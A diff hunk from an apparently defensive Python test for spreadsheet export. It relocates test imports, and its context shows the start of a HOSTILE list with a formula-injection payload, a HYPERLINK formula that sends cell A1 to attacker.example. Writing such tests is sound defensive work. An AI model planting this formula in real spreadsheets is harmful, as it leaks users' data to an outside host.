@@ -10,9 +10,8 @@ from openpyxl import load_workbook
 from exchange.identity.roles import Role
 from exchange.spreadsheets import FORMULA_START, PLAIN_NUMBER
 from exchange.store import UnifiedStore
-from tests.api.test_access_api import bearer
 from tests.catalog_fixtures import CatalogWorld, enterprise_register, publish_entry
-from tests.portal.test_dispute_pages import sign_in
+from tests.scenarios.people import bearer, sign_in
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?x="&A1,"点击")',
